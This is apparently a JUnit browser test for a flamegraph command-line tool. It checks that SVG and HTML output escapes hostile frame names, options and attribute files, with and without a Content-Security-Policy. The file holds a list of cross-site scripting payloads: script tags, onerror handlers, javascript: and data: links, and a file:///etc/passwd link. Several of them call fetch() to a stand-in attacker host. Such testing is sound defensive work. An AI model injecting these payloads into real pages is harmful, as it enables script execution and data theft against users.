package org.memstacks.cli.flamegraph.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.memstacks.cli.flamegraph.Command;

/** Names, options and attribute files that try to run something in the page. */
@Tag("browser")
class HostileTest {
  private static final String FLAG = "window.pwned=1;fetch('https://attacker.invalid/')";
  private static final List<String> PAYLOADS =
      List.of(
          "<script>" + FLAG + "</script>",
          "</title><script>" + FLAG + "</script>",
          "]]></script><script>" + FLAG + "</script>",
          "\"><image href=x onerror=\"" + FLAG + "\"/>",
          "' onload='" + FLAG,
          "</metadata><script>" + FLAG + "</script>",
          "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='"
              + FLAG
              + "'/></body></foreignObject>",
          "&lt;script&gt;" + FLAG,
          "javascript:" + FLAG,
          "--><script>" + FLAG + "</script><!--",
          "${" + FLAG + "}");

  private static Browser browser;
  private static Path folder;
  private static byte[] picture;

  @BeforeAll
  static void draw() throws Exception {
    Assumptions.assumeTrue(Browser.available(), "no Chromium installed");
    browser = new Browser();
    browser.resize(1200, 800);
    folder = Files.createTempDirectory("flamegraph-hostile");
    StringBuilder stacks = new StringBuilder();
    StringBuilder attributes = new StringBuilder();
    int number = 0;
    for (String payload : PAYLOADS) {
      String name = payload.replace(';', ',');
      stacks.append(name).append(";linked").append(number).append(" 10\n");
      attributes.append(name).append("\tclass=").append(payload).append("\ttitle=");
      attributes.append(payload).append("\tonclick=").append(FLAG).append('\n');
      attributes.append("linked").append(number++).append("\thref=javascript:").append(FLAG);
      attributes.append("\tg_extra=onclick=\"").append(FLAG).append("\" data-x='ok'");
      attributes.append("\ta_extra=xlink:href=\"javascript:").append(FLAG).append("\"\n");
    }
    stacks.append("data 10\nvb 10\nfile 10\nfragment 10\n");
    attributes.append("data\thref=data:text/html,<script>alert(1)</script>\n");
    attributes.append("vb\thref= java\u0001script:alert(1)\n");
    attributes.append("file\thref=file:///etc/passwd\n");
    attributes.append("fragment\thref=#s=%3Cscript%3E\ttarget=_self\n");
    Path file = Files.writeString(folder.resolve("attributes"), attributes.toString());
    List<String> args = new ArrayList<>();
    args.add("--nameattr=" + file);
    for (String option :
        List.of("title", "subtitle", "notes", "nametype", "countname", "fonttype")) {
      args.add("--" + option + "=" + String.join(" ", PAYLOADS));
    }
    Command run = Command.run(stacks.toString(), args.toArray(String[]::new));
    assertThat(run.exit()).as(run.err()).isZero();
    assertThat(run.err()).contains("dropped");
    run.picture();
    picture = run.out();
  }

  @AfterAll
  static void stop() throws Exception {
    if (browser != null) {
      browser.close();
      for (String name : List.of("attributes", "hostile.svg", "open.svg")) {
        Files.deleteIfExists(folder.resolve(name));
      }
      Files.deleteIfExists(folder);
    }
  }

  /** The HTML page, with hostile facts of the run, and attributes that look like parts of it. */
  private static String page() throws Exception {
    StringBuilder stacks = new StringBuilder();
    for (String payload : PAYLOADS) {
      String name = payload.replace(';', ',');
      stacks.append("# ").append(payload).append('\n');
      stacks.append("# ").append(payload, 0, Math.min(30, payload.length())).append(": ");
      stacks.append(payload).append('\n');
      stacks.append("# lost: ").append(payload).append('\n');
      stacks.append(name).append(";part 10\n");
    }
    String attributes =
        "part\tdata-place=functions\tdata-action=help\tdata-column=names\tid=narrow"
            + "\tdata-ready=true\tclass=details flames\taria-hidden=true\n";
    Path file = Files.writeString(folder.resolve("attributes"), attributes);
    List<String> args = new ArrayList<>(List.of("--html", "--nameattr=" + file));
    for (String option : List.of("title", "subtitle", "notes", "nametype", "countname")) {
      args.add("--" + option + "=" + String.join(" ", PAYLOADS));
    }
    Command run = Command.run(stacks.toString(), args.toArray(String[]::new));
    assertThat(run.exit()).as(run.err()).isZero();
    return run.text();
  }

  @Test
  void nothingOfTheInputRunsInThePageWithItsPolicyOrWithout() throws Exception {
    String page = page();
    String open = page.replaceFirst("<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "");
    assertThat(open).hasSizeLessThan(page.length());
    for (String html : List.of(page, open)) {
      Path file = Files.writeString(folder.resolve("page.html"), html);
      browser.navigate(file.toUri() + "#s=%3Cscript%3E&p=%3Cimg%20src=x%20onerror=alert(1)%3E");
      browser.waitFor("document.querySelector('svg[data-ready=true]') !== null");
      browser.evaluate(
          "document.querySelectorAll('#frames g, .bar button, .side button').forEach(e => {"
              + " for (const type of ['pointerover', 'focus', 'click', 'error'])"
              + " e.dispatchEvent(new MouseEvent(type, { bubbles: true })); })");
      browser.pause(300);
      assertNothingRan(".html");
      assertThat(browser.text("document.querySelector('section[data-place] table') !== null"))
          .isEqualTo("true");
      assertThat(browser.text("document.querySelectorAll('#frames table').length")).isEqualTo("0");
    }
    Files.delete(folder.resolve("page.html"));
  }

  private static void clickEverything() {
    browser.waitFor("document.querySelector('svg[data-ready=true]') !== null");
    int links = browser.evaluate("document.querySelectorAll('#frames a').length").getAsInt();
    assertThat(links).isEqualTo(1);
    browser.evaluate(
        "document.querySelectorAll('#frames a, #frames g, .bar button').forEach(e => {"
            + " for (const type of ['pointerover', 'mouseover', 'focus', 'click', 'load', 'error'])"
            + " e.dispatchEvent(new MouseEvent(type, { bubbles: true, shiftKey: true })); })");
    for (int i = 0; i < links; i++) {
      browser.evaluate(
          "document.querySelectorAll('#frames a')["
              + i
              + "]?.dispatchEvent(new MouseEvent("
              + "'click', { bubbles: true, cancelable: true }))");
    }
    browser.pause(300);
  }

  private static void assertNothingRan(String file) {
    assertThat(browser.text("window.pwned")).isEqualTo("undefined");
    assertThat(browser.events("Page.javascriptDialogOpening")).isEmpty();
    assertThat(browser.events("Runtime.exceptionThrown")).isEmpty();
    assertThat(browser.events("Log.entryAdded")).isEmpty();
    assertThat(browser.events("Network.requestWillBeSent"))
        .allSatisfy(event ->
            assertThat(event.getAsJsonObject("request").get("url").getAsString())
                .startsWith("file:///")
                .contains(file));
  }

  @Test
  void nothingOfTheInputRunsUnderThePolicy() throws Exception {
    Path file = Files.write(folder.resolve("hostile.svg"), picture);
    browser.navigate(file.toUri().toString());
    clickEverything();
    assertNothingRan(".svg");
  }

  @Test
  void nothingOfTheInputRunsWithoutThePolicyEither() throws Exception {
    String text = new String(picture, StandardCharsets.UTF_8);
    String open = text.replaceFirst("<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "");
    assertThat(open).hasSizeLessThan(text.length());
    Path file = Files.writeString(folder.resolve("open.svg"), open);
    browser.navigate(file.toUri().toString());
    clickEverything();
    assertNothingRan(".svg");
  }

  @Test
  void thePolicyStopsWhateverIsNotOurScript() throws Exception {
    String text = new String(picture, StandardCharsets.UTF_8);
    String injected = text.replace("</svg>", "<script>window.pwned = 1</script></svg>");
    Path file = Files.writeString(folder.resolve("open.svg"), injected);
    browser.navigate(file.toUri().toString());
    browser.waitFor("document.querySelector('svg[data-ready=true]') !== null");
    assertThat(browser.text("window.pwned")).isEqualTo("undefined");
    assertThat(browser.events("Log.entryAdded"))
        .anySatisfy(event ->
            assertThat(event.getAsJsonObject("entry").get("text").getAsString())
                .contains("Content Security Policy"));
  }

  @Test
  void thePictureIsReadableInASandboxWithoutAnything() throws Exception {
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    byte[] svg = Command.run("alpha;beta 30\nalpha;gamma 70\n").out();
    server.createContext(
        "/",
        exchange -> {
          exchange.getResponseHeaders().add("Content-Type", "image/svg+xml");
          exchange
              .getResponseHeaders()
              .add("Content-Security-Policy", "sandbox; default-src 'none'");
          exchange.sendResponseHeaders(200, svg.length);
          try (OutputStream out = exchange.getResponseBody()) {
            out.write(svg);
          }
        });
    server.start();
    try {
      int port = server.getAddress().getPort();
      browser.navigate("http://127.0.0.1:" + port + "/picture.svg");
      assertThat(browser.text("document.querySelector('svg').dataset.ready"))
          .isEqualTo("undefined");
      String boxes =
          "[...document.querySelectorAll('#frames rect')].map(r => r.getBoundingClientRect())"
              + ".filter(b => b.width > 300 && b.height === 15).length";
      assertThat(browser.text(boxes)).isEqualTo("4");
      assertThat(
              browser.text(
                  "[...document.querySelectorAll('#frames text')].map(t => t.textContent"
                      + ").filter(t => t).join(' ')"))
          .isEqualTo("alpha beta gamma");
    } finally {
      server.stop(0);
    }
  }
}
